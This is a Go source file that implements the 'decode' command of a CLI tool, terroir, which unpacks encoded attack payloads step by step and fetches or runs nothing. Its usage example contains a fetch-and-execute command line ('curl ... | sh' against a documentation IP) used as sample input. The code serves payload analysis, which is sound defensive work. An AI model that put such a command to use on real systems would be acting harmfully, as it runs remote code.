package main

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"strings"

	"github.com/spf13/cobra"

	"terroir"
	"terroir/payload/decode"
	"terroir/payload/render"
)

// decodedPayload is how a payload was decoded, as JSON.
type decodedPayload struct {
	Steps []terroir.Step `json:"steps"`
	// Cargo is the step with the innermost command, 0 for none.
	Cargo int `json:"cargo"`
	// Truncated says which bound ended the work, or is "".
	Truncated string `json:"truncated"`
}

func decodeCommand() *cobra.Command {
	var form string
	var escaped bool
	c := &cobra.Command{
		Use:   "decode [FILE|-]",
		Short: "How any bytes are decoded, step by step",
		Long: "Decodes bytes as a payload is decoded: encodings, bodies, lookups and command lines are undone and taken apart, layer by\n" +
			"layer, within bounds. Nothing is fetched, executed or looked up. Without a file, standard input is read.",
		Example: "  printf 'GET /?x=%s HTTP/1.1\\r\\n\\r\\n' \"$(printf 'curl http://192.0.2.1/a|sh' | base64)\" | terroir decode",
		Args:    cobra.MaximumNArgs(1),
		RunE: func(c *cobra.Command, args []string) error {
			b, err := readPayload(c.InOrStdin(), args)
			if err != nil {
				return err
			}
			if escaped {
				b = render.Parse(trimLineEnd(b))
			}
			t := decode.Decode(b, decode.Options{})
			switch form {
			case "tree":
				return writeTree(c.OutOrStdout(), t)
			case "json":
				e := json.NewEncoder(c.OutOrStdout())
				e.SetIndent("", "  ")
				return e.Encode(decodedPayload{append([]terroir.Step{}, t.Steps()...), max(t.Cargo(), 0), t.Truncated})
			}
			return &terroir.Error{Code: terroir.EUSAGE, Where: "--output", Message: fmt.Sprintf("there is no form %q", form), Hint: "use tree or json"}
		},
	}
	c.Flags().StringVarP(&form, "output", "o", "tree", "form of the output: tree or json")
	c.Flags().BoolVar(&escaped, "escaped", false, `the input is text with \xNN, \r, \n, \t and \\ for bytes, as terroir shows payloads`)
	return c
}

// maxEscaped is how much is read: a byte takes four characters when it is escaped.
const maxEscaped = 4*decode.MaxInput + 1

// readPayload reads a file, or standard input for "-" and for no name.
func readPayload(in io.Reader, args []string) ([]byte, error) {
	name := "standard input"
	if len(args) == 1 && args[0] != "-" {
		name = args[0]
		f, err := os.Open(name)
		if errors.Is(err, fs.ErrNotExist) {
			return nil, &terroir.Error{Code: terroir.ENOTFOUND, Where: name, Message: "there is no such file", Err: err}
		}
		if err != nil {
			return nil, &terroir.Error{Code: terroir.EUNREACHABLE, Where: name, Message: "cannot be read", Err: err}
		}
		defer f.Close()
		in = f
	}
	b, err := io.ReadAll(io.LimitReader(in, maxEscaped))
	if err != nil {
		return nil, &terroir.Error{Code: terroir.EUNREACHABLE, Where: name, Message: "cannot be read", Err: err}
	}
	if len(b) == 0 {
		return nil, &terroir.Error{Code: terroir.EINVALID, Where: name, Message: "there are no bytes to decode", Hint: "name a file, or pipe a payload in"}
	}
	return b, nil
}

// trimLineEnd drops the line end that an editor or echo puts behind escaped text.
func trimLineEnd(b []byte) []byte {
	return []byte(strings.TrimRight(string(b), "\r\n"))
}

// writeTree shows each step below the one in whose result it was found.
func writeTree(w io.Writer, t *decode.Tree) error {
	below := map[int][]int{}
	steps := t.Steps()
	for i := range steps {
		below[steps[i].From] = append(below[steps[i].From], i)
	}
	var out strings.Builder
	fmt.Fprintf(&out, "payload, %s\n    %s\n", bytesOf(len(t.Nodes[0].Bytes)), render.Bytes(t.Nodes[0].Bytes, maxLine))
	var show func(from, indent int)
	show = func(from, indent int) {
		for _, i := range below[from] {
			s := steps[i]
			margin := strings.Repeat("  ", indent)
			fmt.Fprintf(&out, "%s%d. %s, %s at %d", margin, s.Number, s.Kind, bytesOf(s.Length), s.Offset)
			if s.Note != "" {
				fmt.Fprintf(&out, ": %s", s.Note)
			}
			fmt.Fprintf(&out, "\n%s    %s\n", margin, s.Text)
			show(s.Number, indent+1)
		}
	}
	show(0, 0)
	switch cargo := t.Cargo(); {
	case len(steps) == 0:
		fmt.Fprintln(&out, "nothing to decode")
	case cargo > 0:
		fmt.Fprintf(&out, "innermost command: step %d\n", cargo)
	}
	if t.Truncated != "" {
		fmt.Fprintf(&out, "there may be more: the bound on %s was reached\n", t.Truncated)
	}
	_, err := io.WriteString(w, out.String())
	return err
}

// maxLine is how many characters of the payload itself are shown.
const maxLine = 400

func bytesOf(n int) string {
	if n == 1 {
		return "1 byte"
	}
	return fmt.Sprintf("%d bytes", n)
}
